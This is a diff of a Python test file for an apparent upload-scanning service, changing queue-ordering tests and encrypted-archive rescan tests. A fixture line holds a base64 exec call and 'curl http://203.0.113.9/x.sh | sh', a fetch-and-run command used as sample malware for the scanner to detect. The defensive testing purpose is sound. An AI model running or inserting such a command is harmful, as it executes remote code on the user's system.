@@ -8,8 +8,12 @@ import json
 import zipfile
 
 import pytest
+from sqlalchemy import delete
 
 from api import uploads
+from fengsui.registry.models import scan_job
+from situation import submissions
+from tests.unit.detectors.software.test_unpack import encrypted
 
 SETUP = b"import os, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://203.0.113.9/x.sh | sh')\n"
 
@@ -80,9 +84,8 @@ def test_the_same_content_again_is_not_scanned_again(client, hand_in, platform, 
     assert detail(client, again)["files"] == detail(client, first)["files"] != []
 
 
-def test_interactive_comes_before_bulk_and_nobody_crowds_out_others(client, hand_in, platform):
-    from situation import submissions
-
+def test_interactive_comes_before_bulk_and_nobody_crowds_out_others(client, hand_in, platform, scanned):
+    scanned()
     ids = [hand_in(package((f"{i}.py", b"x = 1\n")), scan=False, lane="bulk")["id"] for i in range(2)]
     ids.append(hand_in(package(("now.py", b"x = 2\n")), scan=False)["id"])
     ctx, order = platform[1], []
@@ -94,20 +97,17 @@ def test_interactive_comes_before_bulk_and_nobody_crowds_out_others(client, hand
                 other = hand_in_row(db, "other")
         crowded = submissions.claim(db, "w3", 1_000, 2_000)
         db.rollback()
-    assert order == [ids[2], ids[0], ids[1]]
-    assert crowded.submission == other
+    assert order == [ids[2], ids[0], other]  # the first has two at work
+    assert crowded.submission == ids[1]
 
 
 def hand_in_row(db, org: str) -> str:
-    from situation import submissions
-
     return submissions.submit(db, submissions.New(org, "x", 1, "0" * 64, "package"), "me", 5)
 
 
 def test_a_job_whose_worker_died_is_taken_by_another_and_the_dead_ones_outcome_is_not_written(platform):
-    from situation import submissions
-
     with platform[1].registry.begin() as db:
+        db.execute(delete(scan_job))  # what other tests left; taken back below
         key = hand_in_row(db, "lease")
         mine = [submissions.claim(db, "a", 10, 100)]
         assert mine[0].submission == key
@@ -208,14 +208,7 @@ def test_content_that_is_gone_ends_incomplete(client, hand_in, scanned, platform
 
 
 def test_a_rescan_with_the_password_opens_what_was_shut(client, hand_in, scanned):
-    pytest.importorskip("pyzipper")
-    from pyzipper import AESZipFile
-
-    out = io.BytesIO()
-    with AESZipFile(out, "w", encryption=2) as z:
-        z.setpassword(b"correct horse")
-        z.writestr("a.py", SETUP)
-    new = hand_in(out.getvalue())
+    new = hand_in(encrypted(SETUP, b"correct horse"))
     assert detail(client, new)["verdict"] == "incomplete"
     client.post(f"/api/v1/submissions/{new['id']}/rescan", json={"passwords": ["correct horse"]})
     scanned()
